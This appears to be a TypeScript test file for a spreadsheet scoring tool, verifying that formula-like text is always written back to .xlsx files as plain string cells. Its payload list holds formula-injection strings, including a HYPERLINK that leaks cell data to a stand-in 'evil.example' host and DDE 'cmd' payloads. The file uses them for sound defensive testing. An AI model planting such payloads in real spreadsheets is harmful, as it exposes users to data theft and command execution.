/**
 * Text from the workbook is never written back as a formula. Values like =HYPERLINK(…),
 * =cmd|' /C calc'!A0, +cmd|…, -2+3+cmd|…, @SUM(…) typed as text — in event descriptions and matter
 * ids (which flow into the written 完成情况 summaries and 计算说明), in remarks, in an owned cell
 * the clerk typed into (recorded in 撤销记录 and put back by undo), on a sheet of their own — are
 * checked in the written .xlsx XML itself: a string cell (t="s" or t="inlineStr"), no <f> element.
 * Formulas in the output are only those the input had, in the same cell, or the product's own.
 */
// @ts-nocheck

import { readFileSync, writeFileSync } from "node:fs";
import ExcelJS from "exceljs";
import JSZip from "jszip";
import { runCli } from "../fixtures/cli";
import { folderPerTest } from "../fixtures/folder";
import type { ScoreEvent } from "../../src/domain";
import { ExcelFileAdapter } from "../../src/hosts/file/file-adapter";
import { addInputSheets, addScorecard, exampleData, toBuffer } from "../fixtures/workbooks";

const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "=1+1",
  "\t=1+1",
  "＝1+1",
];
/** Whatever a payload leaves in a cell, whole or quoted inside a summary. */
const MARK = /HYPERLINK|cmd\||1\+1/;

interface XmlCell {
  /** The t attribute: "s", "inlineStr", "str", "n", "b", "e", or null (a number). */
  t: string | null;
  /** The <f> element's text ("" for a shared-formula child), or null when there is none. */
  f: string | null;
  text: string | null;
}

const unescapeXml = (s: string) =>
  s.replace(/&(?:#x([0-9a-f]+)|#(\d+)|(amp|lt|gt|quot|apos));/gi, (_, hex?: string, dec?: string, named?: string) =>
    hex ? String.fromCodePoint(parseInt(hex, 16)) : dec ? String.fromCodePoint(Number(dec)) : ({ amp: "&", lt: "<", gt: ">", quot: '"', apos: "'" } as Record<string, string>)[(named ?? "amp").toLowerCase()] ?? "",
  );
const texts = (xml: string) => [...xml.matchAll(/<t(?:\s[^>]*)?>([\s\S]*?)<\/t>/g)].map((m) => unescapeXml(m[1] ?? "")).join("");

/** Every cell of every sheet of an .xlsx, read from the XML itself: "sheet!A1" → type, formula, text. */
async function xmlCells(bytes: Uint8Array): Promise<Map<string, XmlCell>> {
  const zip = await JSZip.loadAsync(bytes);
  const read = async (name: string) => (await zip.file(name)?.async("string")) ?? "";
  const sst = [...(await read("xl/sharedStrings.xml")).matchAll(/<si>([\s\S]*?)<\/si>/g)].map((m) => texts(m[1] ?? ""));
  const rels = new Map([...(await read("xl/_rels/workbook.xml.rels")).matchAll(/<Relationship\b[^>]*>/g)].map((m) => [/Id="([^"]+)"/.exec(m[0])?.[1] ?? "", /Target="([^"]+)"/.exec(m[0])?.[1] ?? ""]));
  const out = new Map<string, XmlCell>();
  for (const m of (await read("xl/workbook.xml")).matchAll(/<sheet\b[^>]*>/g)) {
    const name = unescapeXml(/name="([^"]*)"/.exec(m[0])?.[1] ?? "");
    const target = rels.get(/r:id="([^"]+)"/.exec(m[0])?.[1] ?? "") ?? "";
    const xml = await read(target.startsWith("/") ? target.slice(1) : `xl/${target}`);
    expect([name, xml.length > 0]).toEqual([name, true]);
    for (const c of xml.matchAll(/<c\b([^>]*?)(?:\/>|>([\s\S]*?)<\/c>)/g)) {
      const attrs = c[1] ?? "";
      const inner = c[2] ?? "";
      const r = /\br="([A-Z]+\d+)"/.exec(attrs)?.[1] ?? "?";
      const t = /\bt="([^"]+)"/.exec(attrs)?.[1] ?? null;
      const f = /<f\b[^>]*\/>/.test(inner) ? "" : (/<f\b[^>]*>([\s\S]*?)<\/f>/.exec(inner)?.[1] ?? null);
      const v = /<v>([\s\S]*?)<\/v>/.exec(inner)?.[1];
      const text = t === "s" ? (sst[Number(v)] ?? null) : t === "inlineStr" ? texts(inner) : t === "str" && v !== undefined ? unescapeXml(v) : null;
      out.set(`${name}!${r}`, { t, f: f === null ? null : unescapeXml(f), text });
    }
  }
  return out;
}

/** Every cell holding a payload is a string cell without a formula; no formula carries a payload. Returns how many were checked. */
function expectPayloadsAreText(cells: Map<string, XmlCell>): number {
  let checked = 0;
  for (const [key, c] of cells) {
    if (c.f !== null) expect([key, c.f, MARK.test(c.f)]).toEqual([key, c.f, false]);
    if (c.text !== null && MARK.test(c.text)) {
      expect([key, c.t, c.f]).toEqual([key, expect.stringMatching(/^(s|inlineStr)$/), null]);
      checked++;
    }
  }
  return checked;
}

const { at } = folderPerTest("formula-text-");

const run = (args: string[]) => runCli(args, new Date(2025, 11, 31, 9, 0));

/** The SPEC §7 workbook with a payload everywhere a clerk (or a caller) can put text. */
async function hostileWorkbook(): Promise<{ buffer: Buffer; summaryOfItem1: string; summaryOfItem11: string; remarks: string[] }> {
  const data = exampleData();
  const event = (i: number, type: "bonus" | "penalty"): ScoreEvent => ({
    month: "2025-10",
    type,
    level: type === "bonus" ? "群众" : "市级及以下",
    matterId: PAYLOADS[i % PAYLOADS.length] ?? "",
    description: PAYLOADS[(i + 3) % PAYLOADS.length] ?? "",
    evidence: true,
    verified: true,
    reported: true,
  });
  data.events.push(...PAYLOADS.map((_, i) => event(i, "bonus")), event(1, "penalty"), { ...event(5, "bonus"), matterId: "", evidence: false });
  const wb = new ExcelJS.Workbook();
  const cells = addScorecard(wb, { sheetName: "2025年10月", month: "2025-10" });
  addInputSheets(wb, data);
  const card = wb.getWorksheet("2025年10月")!;
  const remarks = Object.values(cells.remarkCells).slice(0, PAYLOADS.length);
  remarks.forEach((a, i) => (card.getCell(a).value = PAYLOADS[i] ?? ""));
  // An owned cell the clerk typed a payload into: overwritten, recorded in 撤销记录, put back by undo.
  card.getCell(cells.summaryCells[1] ?? "").value = PAYLOADS[1] ?? "";
  const notes = wb.addWorksheet("说明");
  PAYLOADS.forEach((p, i) => (notes.getCell(i + 1, 1).value = p));
  notes.getCell("B1").value = { formula: "LEN(A1)", result: 10 }; // a real formula of the clerk's: kept as it is
  wb.getWorksheet("指标录入")!.getCell("Z2").value = PAYLOADS[0] ?? "";
  return { buffer: await toBuffer(wb), summaryOfItem1: `2025年10月!${cells.summaryCells[1]}`, summaryOfItem11: `2025年10月!${cells.summaryCells[11]}`, remarks: remarks.map((a) => `2025年10月!${a}`) };
}

describe("text is never written back as a formula", () => {
  it("score, then undo, through the command line: every payload is a string cell in the XML, no <f>", async () => {
    const { buffer, summaryOfItem1, summaryOfItem11, remarks } = await hostileWorkbook();
    const input = at("in.xlsx");
    writeFileSync(input, buffer);
    const before = await xmlCells(buffer);

    const scored = await run(["score", input, "-o", at("scored.xlsx"), "--json", "--as-of", "2025-12-31"]);
    expect([scored.code, scored.err]).toEqual([0, expect.any(String)]);
    // The example's +1 and one per distinct matter id after normalization ("\t=1+1" and the full-width "＝1+1" are
    // "=1+1": one matter, counted once; SPEC §5 A7 compares ids after normalization); the penalty −10.
    const json = JSON.parse(scored.out) as { months: { items: Record<string, string> }[] };
    expect(json.months[0]?.items["11"]).toBe("7.00");
    expect(json.months[0]?.items["12"]).toBe("-10.00");
    const after = await xmlCells(readFileSync(at("scored.xlsx")));

    // The written summary quotes the payloads, as text.
    expect(after.get(summaryOfItem11)?.text).toContain(PAYLOADS[0]);
    expect(after.get(summaryOfItem11)?.text).toContain("cmd|' /C calc'!A0");
    expect(after.get(summaryOfItem11)).toEqual(expect.objectContaining({ t: expect.stringMatching(/^(s|inlineStr)$/), f: null }));
    // Remarks, the clerk's sheet and the extra column: as typed, as text.
    for (const [i, key] of remarks.entries()) expect([key, after.get(key)?.text]).toEqual([key, PAYLOADS[i]]);
    for (const [i, p] of PAYLOADS.entries()) expect(after.get(`说明!A${i + 1}`)).toEqual({ t: expect.stringMatching(/^(s|inlineStr)$/), f: null, text: p });
    // The one formula of the clerk's is still a formula; every formula of the output was in the input, same cell, or is on a sheet the product made.
    expect(after.get("说明!B1")?.f).toBe("LEN(A1)");
    const inputSheets = new Set([...before.keys()].map((k) => k.slice(0, k.indexOf("!"))));
    for (const [key, c] of after) {
      if (c.f === null || !inputSheets.has(key.slice(0, key.indexOf("!")))) continue;
      expect([key, c.f]).toEqual([key, before.get(key)?.f]);
    }
    const checkedScored = expectPayloadsAreText(after);

    // Undo puts the clerk's payload back into the owned cell: as text.
    const undone = await run(["undo", at("scored.xlsx"), "-o", at("undone.xlsx")]);
    expect([undone.code, undone.err]).toEqual([0, expect.any(String)]);
    const restored = await xmlCells(readFileSync(at("undone.xlsx")));
    expect(restored.get(summaryOfItem1)).toEqual({ t: expect.stringMatching(/^(s|inlineStr)$/), f: null, text: PAYLOADS[1] });
    const checkedUndone = expectPayloadsAreText(restored);

    expect(checkedScored).toBeGreaterThanOrEqual(PAYLOADS.length * 3);
    expect(checkedUndone).toBeGreaterThanOrEqual(PAYLOADS.length * 3);
    console.log(`formula-text: ${checkedScored} cells with formula-like text after score, ${checkedUndone} after undo: all t="s"/inlineStr, 0 <f>`);
  }, 60_000);

  it("the file adapter writes text as text whatever it starts with, and a product formula as a formula", async () => {
    const wb = new ExcelJS.Workbook();
    wb.addWorksheet("考核").getCell("A1").value = "x";
    const adapter = await ExcelFileAdapter.fromBuffer(await toBuffer(wb));
    await adapter.apply({
      cellWrites: [{ sheet: "考核", writes: [...PAYLOADS.map((p, i) => ({ address: `B${i + 1}`, value: p })), { address: "C1", value: 3, formula: "SUM(A2:A3)" }] }],
      sheets: [{ name: "计算说明", cells: PAYLOADS.map((p, i) => ({ address: `A${i + 1}`, value: p })), merges: [] }],
    });
    const cells = await xmlCells(await adapter.save());
    for (const [i, p] of PAYLOADS.entries()) {
      expect(cells.get(`考核!B${i + 1}`)).toEqual({ t: expect.stringMatching(/^(s|inlineStr)$/), f: null, text: p });
      expect(cells.get(`计算说明!A${i + 1}`)).toEqual({ t: expect.stringMatching(/^(s|inlineStr)$/), f: null, text: p });
    }
    expect(cells.get("考核!C1")?.f).toBe("SUM(A2:A3)");
    expect(expectPayloadsAreText(cells)).toBe(PAYLOADS.length * 2);
  });

  it("reads formula-like text back as text: the snapshot has no formula for it", async () => {
    const { buffer, remarks } = await hostileWorkbook();
    const snapshot = await (await ExcelFileAdapter.fromBuffer(buffer)).read();
    const sheet = snapshot.sheets.find((s) => s.name === "说明")!;
    expect(sheet.cells.filter((c) => c.col === 1).map((c) => [c.value, c.formula])).toEqual(PAYLOADS.map((p) => [p, undefined]));
    expect(sheet.cells.find((c) => c.col === 2)?.formula).toBe("LEN(A1)");
    expect(remarks).toHaveLength(PAYLOADS.length);
  });
});
